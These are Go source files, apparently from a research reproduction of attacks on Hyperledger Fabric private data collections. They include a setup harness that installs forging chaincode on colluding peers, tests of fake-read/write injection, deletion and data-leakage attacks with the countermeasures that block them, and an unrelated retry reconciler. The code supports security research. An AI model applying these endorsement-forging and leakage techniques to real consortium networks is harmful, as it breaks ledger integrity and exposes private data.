	if len(s.Orgs) == 0 {
		s.Orgs = []string{"org1", "org2", "org3"}
	}
	if s.DisableForgers {
		s.Malicious = nil
	} else if len(s.Malicious) == 0 {
		s.Malicious = []string{"org1", "org3"}
	}
	return s
}

// Env is a built attack environment: the network plus the scenario that
// produced it.
type Env struct {
	Scenario Scenario
	Net      *network.Network
}

// Setup builds the scenario's network: the PDC of org1+org2, honest
// per-org contract variants with the paper's constraints (org1 "< 15",
// org2 "> 10", others unconstrained) and the forging chaincode on the
// malicious orgs' peers. The honest client of org1 then writes the
// initial value ⟨k1, 12⟩ through the member endorsers.
func Setup(s Scenario) (*Env, error) {
	s = s.withDefaults()
	net, err := network.New(network.Options{
		Orgs:               s.Orgs,
		DefaultEndorsement: s.DefaultEndorsement,
		Security:           s.Security,
		Seed:               7,
	})
	if err != nil {
		return nil, fmt.Errorf("attacks: setup %q: %w", s.Name, err)
	}

	def := &chaincode.Definition{
		Name:              ChaincodeName,
		Version:           "1.0",
		EndorsementPolicy: s.ChaincodePolicy,
		Collections: []pvtdata.CollectionConfig{{
			Name:              CollectionName,
			MemberPolicy:      "OR(org1.member, org2.member)",
			MaxPeerCount:      len(s.Orgs),
			EndorsementPolicy: s.CollectionEP,
		}},
	}
	if err := net.DeployChaincode(def, contracts.NewPublicAsset()); err != nil {
		return nil, fmt.Errorf("attacks: deploy: %w", err)
	}

	constraints := map[string]contracts.Constraint{
		"org1": contracts.MaxValue(15),
		"org2": contracts.MinValue(10),
	}
	for _, org := range s.Orgs {
		merged := contracts.NewPublicAsset()
		for name, fn := range contracts.NewPDC(contracts.PDCOptions{
			Collection:  CollectionName,
			Constraint:  constraints[org],
			LeakOnWrite: s.LeakOnWrite,
		}) {
			merged[name] = fn
		}
		net.Peer(org).InstallChaincode(ChaincodeName, merged)
	}
	for _, org := range s.Malicious {
		net.Peer(org).InstallChaincode(ChaincodeName, NewForgingPDC(ForgeOptions{
			Collection:    CollectionName,
			FakeReadValue: FakeValue,
			FakeSum:       FakeSum,
		}))
	}

	env := &Env{Scenario: s, Net: net}
	if err := env.writeInitialValue(); err != nil {
		return nil, err
	}
	return env, nil
}

// writeInitialValue seeds ⟨k1, 12⟩ honestly. The write-only seed is
// endorsed by every peer so the chaincode-level policy is satisfied for
// any consortium size (non-members can endorse write-only transactions —
// Use Case 1). All chaincode variants accept 12 and return the same
// empty payload, so the endorsements are consistent.
func (e *Env) writeInitialValue() error {
	res, err := e.submit("org2", e.Net.Peers(), "setPrivate", []string{TargetKey, InitialValue})
	if err != nil {
		return fmt.Errorf("attacks: seed write: %w", err)
	}
	if res.Code != ledger.Valid {
		return fmt.Errorf("attacks: seed write marked %v", res.Code)
	}
	return nil
}

// submit drives one transaction through the named org's gateway with an
// explicit endorsement set — the attack harness always controls exactly
// which peers endorse.
func (e *Env) submit(org string, endorsers []*peer.Peer, function string, args []string) (*gateway.Result, error) {
	return e.Net.Gateway(org).Submit(context.Background(),
		service.NewInvoke(ChaincodeName, function, args...).
			WithEndorsers(service.Names(endorsers)...))
}

func (e *Env) memberPeers() []*peer.Peer {
	return []*peer.Peer{e.Net.Peer("org1"), e.Net.Peer("org2")}
}

// maliciousPeers returns the peers of the colluding organizations.
func (e *Env) maliciousPeers() []*peer.Peer {
	out := make([]*peer.Peer, 0, len(e.Scenario.Malicious))
	for _, org := range e.Scenario.Malicious {
		out = append(out, e.Net.Peer(org))
	}
	return out
}

// VictimValue reads org2's private store directly (as org2's operator
// could) to observe attack effects.
func (e *Env) VictimValue() (string, bool) {
	v, _, ok := e.Net.Peer("org2").PvtStore().GetPrivate(ChaincodeName, CollectionName, TargetKey)
	return string(v), ok
}
