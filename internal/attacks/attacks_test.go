package attacks

import (
	"repro/internal/chaincode"
	"repro/internal/peer"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/ledger"
)

func mustSetup(t *testing.T, s Scenario) *Env {
	t.Helper()
	env, err := Setup(s)
	if err != nil {
		t.Fatalf("setup %q: %v", s.Name, err)
	}
	return env
}

func TestFakeReadInjection(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "majority"})
	out := FakeReadInjection(env)
	if !out.Succeeded {
		t.Fatalf("attack failed: %s", out.Detail)
	}
	if out.Code != ledger.Valid {
		t.Fatalf("malicious tx code = %v", out.Code)
	}
	// The true private value is untouched: the attack breaks blockchain
	// integrity, not the world state.
	if v, ok := env.VictimValue(); !ok || v != InitialValue {
		t.Fatalf("victim value changed: %q %v", v, ok)
	}
}

func TestFakeWriteInjection(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "majority"})
	out := FakeWriteInjection(env)
	if !out.Succeeded {
		t.Fatalf("attack failed: %s", out.Detail)
	}
	// Victim org2 ends with 5, violating its "> 10" rule.
	if v, _ := env.VictimValue(); v != "5" {
		t.Fatalf("victim value = %q, want 5", v)
	}
}

func TestFakeReadWriteInjection(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "majority"})
	out := FakeReadWriteInjection(env)
	if !out.Succeeded {
		t.Fatalf("attack failed: %s", out.Detail)
	}
}

func TestPDCDeleteAttack(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "majority"})
	out := PDCDeleteAttack(env)
	if !out.Succeeded {
		t.Fatalf("attack failed: %s", out.Detail)
	}
	if _, ok := env.VictimValue(); ok {
		t.Fatal("victim still holds the deleted key")
	}
}

func TestNOutOfAttackNeedsNoMemberCollusion(t *testing.T) {
	// §V-A5: org3 and org4 are both PDC non-members, yet two
	// endorsements satisfy 2OutOf5.
	s := Scenario{
		Name:            "2outof5",
		Orgs:            []string{"org1", "org2", "org3", "org4", "org5"},
		ChaincodePolicy: "OutOf(2, org1.peer, org2.peer, org3.peer, org4.peer, org5.peer)",
		Malicious:       []string{"org3", "org4"},
	}
	for _, run := range []struct {
		name   string
		attack func(*Env) Outcome
	}{
		{"read", FakeReadInjection},
		{"write", FakeWriteInjection},
		{"readwrite", FakeReadWriteInjection},
		{"delete", PDCDeleteAttack},
	} {
		t.Run(run.name, func(t *testing.T) {
			env := mustSetup(t, s)
			if out := run.attack(env); !out.Succeeded {
				t.Fatalf("attack failed: %s", out.Detail)
			}
		})
	}
}

func TestCollectionPolicyBlocksWritesButNotReads(t *testing.T) {
	// §V-A6: with a collection-level AND(org1, org2), write-related
	// injections fail, but the read-only injection still works because
	// read-only transactions validate against the chaincode-level
	// policy.
	s := Scenario{Name: "collep", CollectionEP: "AND(org1.peer, org2.peer)"}

	env := mustSetup(t, s)
	if out := FakeReadInjection(env); !out.Succeeded {
		t.Errorf("read injection should still work: %s", out.Detail)
	}
	env = mustSetup(t, s)
	if out := FakeWriteInjection(env); out.Succeeded {
		t.Errorf("write injection should fail under collection EP: %s", out.Detail)
	} else if out.Code != ledger.EndorsementPolicyFailure {
		t.Errorf("write injection code = %v, want policy failure", out.Code)
	}
	env = mustSetup(t, s)
	if out := FakeReadWriteInjection(env); out.Succeeded {
		t.Errorf("read-write injection should fail under collection EP")
	}
	env = mustSetup(t, s)
	if out := PDCDeleteAttack(env); out.Succeeded {
		t.Errorf("delete attack should fail under collection EP")
	}
}

func TestFeature1BlocksReadInjection(t *testing.T) {
	s := Scenario{
		Name:         "feature1",
		CollectionEP: "AND(org1.peer, org2.peer)",
		Security:     core.Feature1Only(),
	}
	env := mustSetup(t, s)
	out := FakeReadInjection(env)
	if out.Succeeded {
		t.Fatalf("read injection should fail under Feature 1: %s", out.Detail)
	}
	if out.Code != ledger.EndorsementPolicyFailure {
		t.Fatalf("code = %v, want ENDORSEMENT_POLICY_FAILURE", out.Code)
	}
}

func TestSupplementalFilterBlocksNonMemberEndorsements(t *testing.T) {
	// §V-D supplemental feature: even without a collection-level
	// policy, endorsements from non-members are discarded, so
	// org1+org3 no longer clears MAJORITY of 3.
	s := Scenario{
		Name:     "filter",
		Security: core.SecurityConfig{FilterNonMemberEndorsements: true},
	}
	env := mustSetup(t, s)
	if out := FakeWriteInjection(env); out.Succeeded {
		t.Fatalf("write injection should fail under the non-member filter: %s", out.Detail)
	}
	env = mustSetup(t, s)
	if out := FakeReadInjection(env); out.Succeeded {
		t.Fatalf("read injection should fail under the non-member filter: %s", out.Detail)
	}
}

func TestPDCReadLeakage(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "leak-read", DisableForgers: true})
	out := PDCReadLeakage(env)
	if !out.Succeeded {
		t.Fatalf("leakage not observed: %s", out.Detail)
	}
	if !strings.Contains(out.Detail, InitialValue) {
		t.Fatalf("detail lacks the leaked value: %s", out.Detail)
	}
}

func TestPDCWriteLeakage(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "leak-write", DisableForgers: true, LeakOnWrite: true})
	out := PDCWriteLeakage(env, "13")
	if !out.Succeeded {
		t.Fatalf("leakage not observed: %s", out.Detail)
	}
}

func TestFeature2BlocksLeakage(t *testing.T) {
	env := mustSetup(t, Scenario{
		Name: "feature2-read", DisableForgers: true, Security: core.Feature2Only(),
	})
	out := PDCReadLeakage(env)
	if out.Succeeded {
		t.Fatalf("read leakage should fail under Feature 2: %s", out.Detail)
	}

	env = mustSetup(t, Scenario{
		Name: "feature2-write", DisableForgers: true, LeakOnWrite: true, Security: core.Feature2Only(),
	})
	out = PDCWriteLeakage(env, "13")
	if out.Succeeded {
		t.Fatalf("write leakage should fail under Feature 2: %s", out.Detail)
	}
}

func TestFeature2ClientStillGetsPlaintext(t *testing.T) {
	// Feature 2 must not break the service: the client still receives
	// the plaintext value it asked for (Fig. 4: PR_Ori to the client).
	env := mustSetup(t, Scenario{
		Name: "feature2-service", DisableForgers: true, Security: core.Feature2Only(),
	})
	res, err := env.submit("org2", env.memberPeers(), "readPrivate", []string{TargetKey})
	if err != nil {
		t.Fatalf("read under Feature 2: %v", err)
	}
	if string(res.Payload) != InitialValue {
		t.Fatalf("client payload = %q, want %q", res.Payload, InitialValue)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("tx code = %v", res.Code)
	}
}

// TestTableIIMatrix regenerates the full Table II and compares it with
// the published table.
func TestTableIIMatrix(t *testing.T) {
	if testing.Short() {
		t.Skip("matrix runs 14 networks; skipped in -short")
	}
	got, err := RunMatrix()
	if err != nil {
		t.Fatalf("run matrix: %v", err)
	}
	want := ExpectedMatrix()
	if !got.Equal(want) {
		t.Fatalf("matrix mismatch:\n%s\ndiffs: %v", got.Render(), got.Diff(want))
	}
}

// TestMajorityAttackWithoutMemberCollusion covers the §IV-A5 discussion:
// under MAJORITY, the attacks need malicious peers from 51% of the
// organizations — but none of them has to be a PDC member when enough
// non-member orgs collude. Five orgs, PDC{org1,org2}, malicious
// org3+org4+org5 (all non-members) reach 3-of-5 majority.
func TestMajorityAttackWithoutMemberCollusion(t *testing.T) {
	s := Scenario{
		Name:      "majority-5org",
		Orgs:      []string{"org1", "org2", "org3", "org4", "org5"},
		Malicious: []string{"org3", "org4", "org5"},
	}
	env := mustSetup(t, s)
	if out := FakeReadInjection(env); !out.Succeeded {
		t.Fatalf("read injection failed: %s", out.Detail)
	}
	env = mustSetup(t, s)
	if out := FakeWriteInjection(env); !out.Succeeded {
		t.Fatalf("write injection failed: %s", out.Detail)
	}
	// Two non-member orgs are NOT enough under MAJORITY of five.
	s.Malicious = []string{"org3", "org4"}
	env = mustSetup(t, s)
	if out := FakeWriteInjection(env); out.Succeeded {
		t.Fatalf("2-of-5 cleared MAJORITY: %s", out.Detail)
	}
}

// TestExtractPDCEvents: chaincode events are plaintext in blocks — the
// event-channel analogue of the §IV-B payload leaks.
func TestExtractPDCEvents(t *testing.T) {
	env := mustSetup(t, Scenario{Name: "events", DisableForgers: true})

	// Install an event-emitting variant on the member peers: the sloppy
	// pattern embeds the private value in the event payload.
	emitters := chaincode.Router{
		"setPrivateAnnounced": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.PutPrivateData(CollectionName, args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.SetEvent("PrivateChanged", []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
	env.Net.Peer("org1").InstallChaincode(ChaincodeName, emitters)
	env.Net.Peer("org2").InstallChaincode(ChaincodeName, emitters)

	res, err := env.submit("org2",
		[]*peer.Peer{env.Net.Peer("org1"), env.Net.Peer("org2")},
		"setPrivateAnnounced", []string{"k9", "777"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}

	events := ExtractPDCEvents(env.Net.Peer("org3"))
	found := false
	for _, ev := range events {
		if ev.TxID == res.TxID && ev.Payload == "777" && ev.Name == "PrivateChanged" {
			found = true
		}
	}
	if !found {
		t.Fatalf("non-member did not recover the event payload: %+v", events)
	}
}
