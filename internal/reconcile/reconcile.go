// Package reconcile implements the peer's anti-entropy private-data
// reconciler: the background process that repeatedly retries fetching
// missing private data until every member peer holds the original tuples
// (Fabric ships the same mechanism as the "reconciler" of its pvtdata
// store; see Androulaki et al. and docs/PROTOCOL.md §Reconciliation).
//
// The reconciler is tick-driven rather than wall-clock-driven: callers
// (the peer, a benchmark harness, or a test) advance a logical clock with
// Tick, and all retry/backoff scheduling is expressed in ticks. That
// keeps every schedule deterministic — a test can drop dissemination,
// heal the network and assert convergence after an exact number of
// ticks, with no timers or sleeps.
//
// Per missing (txID, collection) entry the reconciler tracks an attempt
// count and a capped exponential backoff: after the k-th failed attempt
// the entry is not retried for min(BaseBackoff << (k-1), MaxBackoff)
// ticks, and after MaxAttempts failures the entry moves to the gave-up
// set, where it stays (visible to operators, never retried) until it is
// either reinstated or no longer reported missing. Every attempt is
// counted and timed through the metrics registries.
package reconcile

import (
	"sort"
	"sync"
	"time"

	"repro/internal/metrics"
)

// Defaults applied when the corresponding Config field is zero.
const (
	// DefaultMaxAttempts is the give-up threshold.
	DefaultMaxAttempts = 8
	// DefaultBaseBackoff is the tick delay after the first failure.
	DefaultBaseBackoff = 1
	// DefaultMaxBackoff caps the exponential backoff, in ticks.
	DefaultMaxBackoff = 16
)

// Entry identifies one missing piece of private data: the original
// collection read/write set of one transaction.
type Entry struct {
	TxID       string
	Collection string
}

// Config wires a Reconciler to its peer.
type Config struct {
	// Fetch returns the peer's current missing-private-data entries
	// (typically validator.Missing). The reconciler syncs its work queue
	// against this on every tick: new entries are enqueued, and entries
	// that disappeared (recovered through another path, or purged) are
	// dropped — including from the gave-up set.
	Fetch func() []Entry
	// Attempt performs one reconciliation attempt for an entry
	// (typically validator.ReconcileOne) and reports whether the data
	// was recovered and committed.
	Attempt func(Entry) bool
	// MaxAttempts is the give-up threshold; 0 selects DefaultMaxAttempts.
	MaxAttempts int
	// BaseBackoff is the tick delay after the first failed attempt;
	// 0 selects DefaultBaseBackoff.
	BaseBackoff int
	// MaxBackoff caps the exponential backoff in ticks; 0 selects
	// DefaultMaxBackoff.
	MaxBackoff int
	// Metrics, when non-nil, receives the per-attempt outcome counters
	// (metrics.Reconcile*).
	Metrics *metrics.Counters
	// Timings, when non-nil, receives the per-attempt latency histogram
	// (metrics.ReconcileAttempt).
	Timings *metrics.Timings
}

// entryState is the retry bookkeeping of one pending entry.
type entryState struct {
	attempts  int
	notBefore uint64 // earliest tick of the next attempt
}

// Reconciler drives the anti-entropy retry loop of one peer.
type Reconciler struct {
	mu      sync.Mutex
	cfg     Config
	tick    uint64
	pending map[Entry]*entryState
	gaveUp  map[Entry]int // entry -> attempts spent before giving up
}

// New creates a reconciler. Fetch and Attempt must be non-nil.
func New(cfg Config) *Reconciler {
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = DefaultMaxAttempts
	}
	if cfg.BaseBackoff <= 0 {
		cfg.BaseBackoff = DefaultBaseBackoff
	}
	if cfg.MaxBackoff <= 0 {
		cfg.MaxBackoff = DefaultMaxBackoff
	}
	return &Reconciler{
		cfg:     cfg,
		pending: make(map[Entry]*entryState),
		gaveUp:  make(map[Entry]int),
	}
}

// SetPolicy swaps the retry parameters (zero selects the default, as in
// Config). In-flight attempt counts are kept; entries already given up
// stay given up.
func (r *Reconciler) SetPolicy(maxAttempts, baseBackoff, maxBackoff int) {
	if maxAttempts <= 0 {
		maxAttempts = DefaultMaxAttempts
	}
	if baseBackoff <= 0 {
		baseBackoff = DefaultBaseBackoff
	}
	if maxBackoff <= 0 {
		maxBackoff = DefaultMaxBackoff
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.cfg.MaxAttempts = maxAttempts
	r.cfg.BaseBackoff = baseBackoff
	r.cfg.MaxBackoff = maxBackoff
}

// backoff returns the tick delay after the k-th consecutive failure
// (k >= 1): min(BaseBackoff << (k-1), MaxBackoff).
func (r *Reconciler) backoff(k int) uint64 {
	d := r.cfg.BaseBackoff
	for i := 1; i < k; i++ {
		d <<= 1
		if d >= r.cfg.MaxBackoff {
			return uint64(r.cfg.MaxBackoff)
		}
	}
	if d > r.cfg.MaxBackoff {
		d = r.cfg.MaxBackoff
	}
	return uint64(d)
}

// Tick advances the logical clock by one and runs one reconciliation
// round: the work queue is synced against Fetch, then every due entry
// (backoff elapsed, not given up) is attempted once, in deterministic
// (txID, collection) order. Returns how many entries were recovered this
// tick.
func (r *Reconciler) Tick() int {
	r.mu.Lock()
	r.tick++
	now := r.tick

	// Sync the queue with the peer's current missing set.
	current := make(map[Entry]bool)
	for _, e := range r.cfg.Fetch() {
		current[e] = true
		if _, pending := r.pending[e]; !pending {
			if _, dead := r.gaveUp[e]; !dead {
				r.pending[e] = &entryState{}
				r.count(metrics.ReconcileEnqueued, 1)
			}
		}
	}
	for e := range r.pending {
		if !current[e] {
			delete(r.pending, e) // recovered through another path
		}
	}
	for e := range r.gaveUp {
		if !current[e] {
			delete(r.gaveUp, e)
		}
	}

	// Collect the due entries in deterministic order.
	var due []Entry
	for e, st := range r.pending {
		if now >= st.notBefore {
			due = append(due, e)
		}
	}
	sort.Slice(due, func(i, j int) bool {
		if due[i].TxID != due[j].TxID {
			return due[i].TxID < due[j].TxID
		}
		return due[i].Collection < due[j].Collection
	})
	r.mu.Unlock()

	recovered := 0
	for _, e := range due {
		start := time.Now()
		ok := r.cfg.Attempt(e)
		if r.cfg.Timings != nil {
			r.cfg.Timings.Observe(metrics.ReconcileAttempt, time.Since(start))
		}
		r.count(metrics.ReconcileAttempts, 1)

		r.mu.Lock()
		st, pending := r.pending[e]
		if !pending {
			r.mu.Unlock()
			continue
		}
		if ok {
			delete(r.pending, e)
			r.count(metrics.ReconcileRecovered, 1)
			recovered++
		} else {
			st.attempts++
			r.count(metrics.ReconcileFailures, 1)
			if st.attempts >= r.cfg.MaxAttempts {
				delete(r.pending, e)
				r.gaveUp[e] = st.attempts
				r.count(metrics.ReconcileGiveUps, 1)
			} else {
				st.notBefore = now + r.backoff(st.attempts)
			}
		}
		r.mu.Unlock()
	}
	return recovered
}

// Run ticks until nothing is pending or maxTicks elapsed, returning the
// total number of entries recovered. Convenience for benchmarks and
// one-shot callers.
func (r *Reconciler) Run(maxTicks int) int {
	recovered := 0
	for i := 0; i < maxTicks; i++ {
		recovered += r.Tick()
		if len(r.Pending()) == 0 {
			break
		}
	}
	return recovered
}

// count increments a counter when metrics are wired.
func (r *Reconciler) count(name string, delta uint64) {
	if r.cfg.Metrics != nil {
		r.cfg.Metrics.Add(name, delta)
	}
}

// Now returns the current logical tick.
func (r *Reconciler) Now() uint64 {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.tick
}

// Pending returns the entries still scheduled for retry, sorted.
func (r *Reconciler) Pending() []Entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]Entry, 0, len(r.pending))
	for e := range r.pending {
		out = append(out, e)
	}
	sortEntries(out)
	return out
}

// GaveUp returns the entries abandoned after MaxAttempts failures, sorted.
func (r *Reconciler) GaveUp() []Entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]Entry, 0, len(r.gaveUp))
	for e := range r.gaveUp {
		out = append(out, e)
	}
	sortEntries(out)
	return out
}

// Attempts reports how many attempts were spent on an entry so far
// (pending or given up); 0 when the entry is unknown.
func (r *Reconciler) Attempts(e Entry) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	if st, ok := r.pending[e]; ok {
		return st.attempts
	}
	return r.gaveUp[e]
}

// NextAttempt returns the earliest tick at which a pending entry will be
// retried; ok is false when the entry is not pending.
func (r *Reconciler) NextAttempt(e Entry) (tick uint64, ok bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	st, pending := r.pending[e]
	if !pending {
		return 0, false
	}
	return st.notBefore, true
}

// Reinstate moves a given-up entry back to the pending queue with a
// fresh attempt budget (operator intervention after fixing the network).
// Reports whether the entry was in the gave-up set.
func (r *Reconciler) Reinstate(e Entry) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, ok := r.gaveUp[e]; !ok {
		return false
	}
	delete(r.gaveUp, e)
	r.pending[e] = &entryState{}
	return true
}

func sortEntries(out []Entry) {
	sort.Slice(out, func(i, j int) bool {
		if out[i].TxID != out[j].TxID {
			return out[i].TxID < out[j].TxID
		}
		return out[i].Collection < out[j].Collection
	})
}
