package reconcile

import (
	"reflect"
	"sync"
	"testing"

	"repro/internal/metrics"
)

// harness is a scriptable Source: entries report missing until marked
// recoverable, and every attempt is recorded.
type harness struct {
	mu          sync.Mutex
	missing     map[Entry]bool
	recoverable map[Entry]bool
	attempts    map[Entry]int
}

func newHarness(entries ...Entry) *harness {
	h := &harness{
		missing:     make(map[Entry]bool),
		recoverable: make(map[Entry]bool),
		attempts:    make(map[Entry]int),
	}
	for _, e := range entries {
		h.missing[e] = true
	}
	return h
}

func (h *harness) fetch() []Entry {
	h.mu.Lock()
	defer h.mu.Unlock()
	var out []Entry
	for e := range h.missing {
		out = append(out, e)
	}
	return out
}

func (h *harness) attempt(e Entry) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.attempts[e]++
	if h.recoverable[e] {
		delete(h.missing, e)
		return true
	}
	return false
}

func (h *harness) heal(e Entry) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.recoverable[e] = true
}

func (h *harness) attemptCount(e Entry) int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.attempts[e]
}

func newReconciler(h *harness, cfg Config) *Reconciler {
	cfg.Fetch = h.fetch
	cfg.Attempt = h.attempt
	return New(cfg)
}

func TestRecoverFirstTick(t *testing.T) {
	e := Entry{TxID: "tx1", Collection: "pdc1"}
	h := newHarness(e)
	h.heal(e)
	var c metrics.Counters
	var tm metrics.Timings
	r := newReconciler(h, Config{Metrics: &c, Timings: &tm})

	if got := r.Tick(); got != 1 {
		t.Fatalf("recovered = %d, want 1", got)
	}
	if len(r.Pending()) != 0 || len(r.GaveUp()) != 0 {
		t.Fatalf("queues not empty: pending=%v gaveUp=%v", r.Pending(), r.GaveUp())
	}
	if c.Get(metrics.ReconcileEnqueued) != 1 || c.Get(metrics.ReconcileAttempts) != 1 ||
		c.Get(metrics.ReconcileRecovered) != 1 || c.Get(metrics.ReconcileFailures) != 0 {
		t.Fatalf("counters = %v", c.Snapshot())
	}
	if tm.Snapshot()[metrics.ReconcileAttempt].Count != 1 {
		t.Fatalf("attempt histogram count = %d, want 1", tm.Snapshot()[metrics.ReconcileAttempt].Count)
	}
}

// TestBackoffSchedule: failed attempts happen exactly at the ticks the
// capped exponential backoff predicts.
func TestBackoffSchedule(t *testing.T) {
	e := Entry{TxID: "tx1", Collection: "pdc1"}
	h := newHarness(e)
	r := newReconciler(h, Config{MaxAttempts: 10, BaseBackoff: 1, MaxBackoff: 4})

	// Attempt ticks: backoff after k failures is min(1<<(k-1), 4), so
	// attempts land on ticks 1, 2, 4, 8, 12, 16, ... (delays 1,2,4,4,4).
	wantTicks := map[uint64]int{1: 1, 2: 2, 4: 3, 8: 4, 12: 5, 16: 6}
	for tick := uint64(1); tick <= 16; tick++ {
		if got := r.Tick(); got != 0 {
			t.Fatalf("tick %d recovered %d, want 0", tick, got)
		}
		if want, ok := wantTicks[tick]; ok {
			if got := h.attemptCount(e); got != want {
				t.Fatalf("tick %d: attempts = %d, want %d", tick, got, want)
			}
		}
	}
	if got := h.attemptCount(e); got != 6 {
		t.Fatalf("total attempts = %d, want 6", got)
	}
	if next, ok := r.NextAttempt(e); !ok || next != 20 {
		t.Fatalf("next attempt = (%d, %v), want (20, true)", next, ok)
	}
}

func TestGiveUpAfterMaxAttempts(t *testing.T) {
	e := Entry{TxID: "tx1", Collection: "pdc1"}
	h := newHarness(e)
	var c metrics.Counters
	r := newReconciler(h, Config{MaxAttempts: 3, BaseBackoff: 1, MaxBackoff: 1, Metrics: &c})

	for i := 0; i < 10; i++ {
		r.Tick()
	}
	if got := h.attemptCount(e); got != 3 {
		t.Fatalf("attempts = %d, want 3 (give-up threshold)", got)
	}
	if got := r.GaveUp(); !reflect.DeepEqual(got, []Entry{e}) {
		t.Fatalf("gaveUp = %v", got)
	}
	if len(r.Pending()) != 0 {
		t.Fatalf("pending = %v, want empty", r.Pending())
	}
	if c.Get(metrics.ReconcileGiveUps) != 1 || c.Get(metrics.ReconcileFailures) != 3 {
		t.Fatalf("counters = %v", c.Snapshot())
	}
	if r.Attempts(e) != 3 {
		t.Fatalf("Attempts = %d, want 3", r.Attempts(e))
	}

	// Healing the network alone does not resurrect a gave-up entry...
	h.heal(e)
	if r.Tick() != 0 {
		t.Fatal("gave-up entry was retried")
	}
	// ...but Reinstate does, with a fresh attempt budget.
	if !r.Reinstate(e) {
		t.Fatal("Reinstate returned false")
	}
	if got := r.Tick(); got != 1 {
		t.Fatalf("recovered after reinstate = %d, want 1", got)
	}
	if len(r.GaveUp()) != 0 {
		t.Fatalf("gaveUp = %v, want empty", r.GaveUp())
	}
}

// TestExternallyResolvedEntryDropped: an entry that stops being reported
// missing (recovered through the commit path) leaves both queues without
// an attempt.
func TestExternallyResolvedEntryDropped(t *testing.T) {
	e := Entry{TxID: "tx1", Collection: "pdc1"}
	h := newHarness(e)
	r := newReconciler(h, Config{MaxAttempts: 2, BaseBackoff: 4, MaxBackoff: 4})

	r.Tick() // one failed attempt, backed off to tick 5
	h.mu.Lock()
	delete(h.missing, e)
	h.mu.Unlock()
	r.Tick()
	if len(r.Pending()) != 0 {
		t.Fatalf("pending = %v, want empty", r.Pending())
	}
	if got := h.attemptCount(e); got != 1 {
		t.Fatalf("attempts = %d, want 1", got)
	}
}

// TestDeterministicOrder: due entries are attempted in sorted
// (txID, collection) order every tick.
func TestDeterministicOrder(t *testing.T) {
	entries := []Entry{
		{TxID: "tx2", Collection: "pdcB"},
		{TxID: "tx1", Collection: "pdcB"},
		{TxID: "tx1", Collection: "pdcA"},
	}
	h := newHarness(entries...)
	var order []Entry
	r := New(Config{
		Fetch: h.fetch,
		Attempt: func(e Entry) bool {
			order = append(order, e)
			return false
		},
	})
	r.Tick()
	want := []Entry{
		{TxID: "tx1", Collection: "pdcA"},
		{TxID: "tx1", Collection: "pdcB"},
		{TxID: "tx2", Collection: "pdcB"},
	}
	if !reflect.DeepEqual(order, want) {
		t.Fatalf("attempt order = %v, want %v", order, want)
	}
}

func TestRunUntilConverged(t *testing.T) {
	e1 := Entry{TxID: "tx1", Collection: "pdc1"}
	e2 := Entry{TxID: "tx2", Collection: "pdc1"}
	h := newHarness(e1, e2)
	h.heal(e1)
	h.heal(e2)
	r := newReconciler(h, Config{})
	if got := r.Run(10); got != 2 {
		t.Fatalf("Run recovered %d, want 2", got)
	}
	if r.Now() != 1 {
		t.Fatalf("Run used %d ticks, want 1", r.Now())
	}
}

func TestSetPolicyTightensGiveUp(t *testing.T) {
	e := Entry{TxID: "tx1", Collection: "pdc1"}
	h := newHarness(e)
	r := newReconciler(h, Config{MaxAttempts: 100, BaseBackoff: 1, MaxBackoff: 1})
	r.Tick()
	r.SetPolicy(2, 1, 1)
	r.Tick() // second failure reaches the new threshold
	if got := r.GaveUp(); !reflect.DeepEqual(got, []Entry{e}) {
		t.Fatalf("gaveUp = %v, want [%v]", got, e)
	}
}
