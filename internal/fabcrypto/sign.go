package fabcrypto

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"errors"
	"fmt"
)

// ErrInvalidSignature is returned by Verify when a signature does not match
// the message under the given public key.
var ErrInvalidSignature = errors.New("fabcrypto: invalid signature")

// KeyPair is an ECDSA P-256 key pair used for identities, endorsement
// signatures and CA signatures.
type KeyPair struct {
	priv *ecdsa.PrivateKey
}

// GenerateKeyPair creates a fresh P-256 key pair.
func GenerateKeyPair() (*KeyPair, error) {
	priv, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("generate ecdsa key: %w", err)
	}
	return &KeyPair{priv: priv}, nil
}

// MustGenerateKeyPair is GenerateKeyPair for initialization paths where key
// generation failure is unrecoverable (it only fails if the system entropy
// source is broken).
func MustGenerateKeyPair() *KeyPair {
	kp, err := GenerateKeyPair()
	if err != nil {
		panic(err)
	}
	return kp
}

// PublicKey returns the serialized (uncompressed-point) public key.
func (k *KeyPair) PublicKey() PublicKey {
	pub := k.priv.PublicKey
	return PublicKey(elliptic.Marshal(elliptic.P256(), pub.X, pub.Y))
}

// Sign signs the SHA-256 digest of msg and returns an ASN.1 DER signature.
func (k *KeyPair) Sign(msg []byte) ([]byte, error) {
	digest := Hash(msg)
	sig, err := ecdsa.SignASN1(rand.Reader, k.priv, digest)
	if err != nil {
		return nil, fmt.Errorf("ecdsa sign: %w", err)
	}
	return sig, nil
}

// PublicKey is a serialized ECDSA P-256 public key (uncompressed point).
type PublicKey []byte

// Verify checks sig over the SHA-256 digest of msg under pub.
func Verify(pub PublicKey, msg, sig []byte) error {
	x, y := elliptic.Unmarshal(elliptic.P256(), pub)
